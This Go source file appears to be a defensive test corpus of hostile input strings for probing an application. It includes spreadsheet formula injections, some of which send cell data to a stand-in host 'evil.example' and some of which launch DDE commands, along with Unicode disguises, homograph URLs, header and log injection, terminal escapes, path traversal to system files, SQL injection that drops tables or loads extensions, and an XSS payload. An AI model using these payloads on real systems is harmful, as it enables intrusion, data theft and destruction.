package hostile

import (
	"slices"
	"strings"
)

// Formulas are texts that a spreadsheet computes.
func Formulas() []Payload {
	return slices.Concat(
		payloads("formula",
			`=1+1`, `+1+1`, `-1+1`, `@SUM(A1)`,
			`=HYPERLINK("https://evil.example/"&A1,"total")`,
			`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
			`=WEBSERVICE("https://evil.example/"&A1)`, `=IMPORTXML("https://evil.example/","//a")`,
			`=DDE("cmd";"/C calc";"x")`,
		),
		payloads("hidden formula",
			"\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", `"=1+1`, `""=1+1`,
			`x;=1+1`, `x,=1+1`, "x\t=1+1", "x|@SUM(A1)", "x\n=1+1", "x\r\n=1+1", `x";"=1+1`,
		),
		payloads("full width", `＝1+1`, `＋1+1`, `－1+1`, `＠SUM(A1)`, ` ＝1+1`, `x;＝1+1`),
	)
}

// Disguises are texts that look like others, or like nothing.
func Disguises() []Payload {
	return slices.Concat(
		payloads("direction",
			"invoice\u202egpj.exe", "\u202dabc\u202c", "\u202babc\u202c", "\u202aabc", "refund\u2066 \u2067paid\u2069", "\u2068x\u2069\u2069",
			"pay \u202e0001\u202c rial", "\u061c\u200e\u200fabc",
		),
		payloads("zero width",
			"ho\u200bme", "ho\u2060me", "\ufeffhome", "h\u00adome", "ho\u200cme", "ho\u200dme", "home\u180e", "home\u3164", "home\u115f", "\u2800",
			"\U000e0068\U000e006fhome", "home\ufe0f\ufe0f", "home\u2062",
		),
		payloads("homograph",
			"https://аpple.com/", "https://pаypal.example/", "https://ѕһор.example/", "https://goоgle.com/", "https://shοp.example/", "https://xn--pple-43d.com/",
		),
	)
}

// Lines are texts that begin a line of their own in a log or a header, or command a terminal.
func Lines() []Payload {
	return slices.Concat(
		payloads("line", "x\r\nSet-Cookie: pwn=1", "x\nlevel=ERROR msg=pwn", "x\r\n\r\n<script>pwn()</script>", "x\u2028pwn", "x\u0085pwn", "x\vpwn\f",
			"x\"}\n{\"level\":\"ERROR\",\"msg\":\"pwn\"}"),
		payloads("terminal", "\x1b[2J\x1b[31mpwn", "\x1b]0;pwn\x07", "\x1b]8;;https://evil.example/\x07pwn\x1b]8;;\x07", "\u009b31mpwn", "pwn\b\b\bxxx", "x\x00pwn", "x\x7fpwn"),
	)
}

// Paths are parts of addresses that lead out of the folder that they are looked up in.
func Paths() []Payload {
	return slices.Concat(
		payloads("traversal",
			`../safar.db`, `../../../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `%2e%2e/%2e%2e/etc/passwd`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
			`..%252f..%252fetc%252fpasswd`, `..\..\windows\win.ini`, `..%5c..%5cwindows%5cwin.ini`, `....//....//etc/passwd`, `..;/..;/etc/passwd`,
			`..%c0%af..%c0%afetc/passwd`, `%uff0e%uff0e/etc/passwd`, `..%00/etc/passwd`, `/etc/passwd`, `//etc/passwd`, `./././safar.db`,
			`index.html%00.js`, `.git/config`, `file:///etc/passwd`, `C:\safar.db`, `safar.db`, `safar.db-wal`, `..%ef%bc%8fsafar.db`, `assets/../../files.go`,
		),
	)
}

// Statements are texts that are read as SQL where they are put into a statement.
func Statements() []Payload {
	return payloads("SQL",
		`'`, `''`, `"`, "`", `\`, `;`, `--`, `/*`, `%`, `_`,
		`' OR '1'='1`, `' OR 1=1--`, `1 OR 1=1`, `1; DROP TABLE event`, `'; DROP TABLE event; --`, `'); DELETE FROM event; --`,
		`' UNION SELECT name, sql FROM sqlite_master --`, `main' AND substr((SELECT hash FROM key), 1, 1) = 'a`,
		`'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --`, `'||(SELECT load_extension('pwn'))||'`, `1) ORDER BY 99--`, `:site`, `?1`, `$site`, `x'00'`,
		`'; PRAGMA writable_schema=1; --`, `' AND randomblob(1000000000) --`, `{"a":1}`, `(SELECT 1)`, `NULL`,
	)
}

// Awkward are texts that are merely hard to hold: long, piled up, or no text at all.
func Awkward() []Payload {
	return slices.Concat(
		payloads("long", strings.Repeat("a", 128), strings.Repeat("W", 64), strings.Repeat("سلام", 30), strings.Repeat("🛒", 64)),
		payloads("piled up", "z"+strings.Repeat("\u0336\u0489\u0321", 20), "س"+strings.Repeat("\u064b", 60), strings.Repeat("👨\u200d", 30)+"👨"),
		payloads("number", "NaN", "Infinity", "-0", "1e309", "0x10", "٣٫٥", "null", "true", "undefined"),
	)
}

// Broken are strings of bytes that are no UTF-8, and such as JSON can't write.
func Broken() []Payload {
	return payloads("no UTF-8", "\xff", "a\xc3", "\xed\xa0\x80", "\xc0\xaf", "\xf8\x88\x80\x80\x80", "\x80<img src=x onerror=pwn()>")
}
